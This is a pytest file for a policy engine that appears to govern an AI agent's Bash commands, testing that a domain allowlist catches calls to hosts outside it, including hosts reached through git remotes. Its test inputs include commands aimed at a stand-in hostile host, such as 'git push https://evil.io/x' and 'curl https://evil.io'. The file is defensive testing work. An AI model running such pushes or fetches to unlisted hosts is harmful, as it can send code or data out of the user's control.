"""`domains: {only: [...]}`: every host that is not in the list, known or not, git's remotes by name among them."""

from __future__ import annotations

import random
import shutil
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from rulez_py.policy.facts.facts import Facts, Surroundings
from rulez_py.policy.format.check import check
from rulez_py.policy.judging.matching import is_excepted, matched_by, matches, narrowed
from rulez_py.policy.matchers.domains import UNKNOWN
from rulez_py.system.git import asking
from rulez_py.system.scripts import World
from tests.events import facts_of
from tests.policy.judging.test_decide import bash
from tests.policy.matchers.test_matchers import event_of
from tests.repositories import Repository

DATA: dict[str, list[dict[str, Any]]] = YAML(typ="safe").load(Path(__file__).parent / "data" / "contacts.yaml")
ONLY = {"domains": {"only": ["example.com", "*.example.com", "github.com"]}}
IN_REPOSITORIES = [(case, line) for case in DATA["remotes"] for line in case["lines"]]


def found(facts: Facts) -> list[str]:
    """The hosts by which the rule fits; "?" for one that is not known."""
    if not matches(ONLY, facts):
        return []
    concerned = narrowed(facts, ONLY)
    hosts = [*concerned.hosts, *(UNKNOWN for part in concerned.parts if part.somewhere)]
    said = " ".join(matched_by(ONLY, facts)).lower()
    assert hosts and all(host in said for host in hosts), said
    return ["?" if host == UNKNOWN else host for host in dict.fromkeys(hosts)]


@pytest.mark.parametrize("case", DATA["calls"], ids=lambda case: case.get("line") or f"{case['tool']} {case['input']}")
def test_every_host_fits_that_is_not_in_the_list(case: dict[str, Any]) -> None:
    given = {"tool": "Bash", "input": {"command": case["line"]}} if "line" in case else case
    assert found(facts_of(event_of(given))) == [str(host) for host in case["fits"]]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
@pytest.mark.parametrize(
    ("case", "line"), IN_REPOSITORIES, ids=[f"{one['name']}: {line['line']}" for one, line in IN_REPOSITORIES]
)
def test_a_remote_is_the_host_that_it_leads_to(tmp_path: Path, case: dict[str, Any], line: dict[str, Any]) -> None:
    one = Repository(tmp_path, random.Random(0))
    for words in case["git"]:
        assert one.git(*words) is not None
    around = Surroundings(root=str(one.top), home=str(tmp_path))
    assert found(Facts(bash(line["line"], cwd=str(one.top)), around, World({}, None))) == line["fits"]


def test_git_is_asked_only_where_it_goes_by_a_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[object] = []
    monkeypatch.setattr(asking, "_run", lambda words, *_rest, **_more: asked.append(words))
    Repository(tmp_path, random.Random(0))
    for line in ("git status", "git push https://evil.io/x", "git push $X", "curl https://evil.io", "ls"):
        around = Surroundings(root=str(tmp_path / "r"), home=str(tmp_path))
        found(Facts(bash(line, cwd=str(tmp_path / "r")), around, World({}, None)))
    assert asked == []


def test_an_exception_needs_all_hosts_known_and_outside() -> None:
    def excepted(line: str) -> bool:
        facts = facts_of(event_of({"tool": "Bash", "input": {"command": line}}))
        return is_excepted([ONLY], {"command": [{"program": ["curl"]}]}, facts)

    assert excepted("curl https://evil.io")
    assert not excepted("curl https://evil.io https://example.com")
    assert not excepted("curl https://evil.io $URL")
    assert not excepted("curl $URL")


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("{only: []}", "is an empty list"),
        ("{}", "needs"),
        ("{only: [x], more: 1}", "unknown"),
        ("{only: ['https://example.com/']}", 'write "example.com"'),
    ],
)
def test_what_is_wrong_has_a_place(written: str, said: str) -> None:
    text = f'version: "1.0"\nrules:\n- name: x\n  matchers: {{domains: {written}}}\n  actions: {{block: true}}\n'
    problems = check(text.encode(), "p").problems
    assert any(said in f"{one.message} {one.help}" and one.line == 4 for one in problems), problems
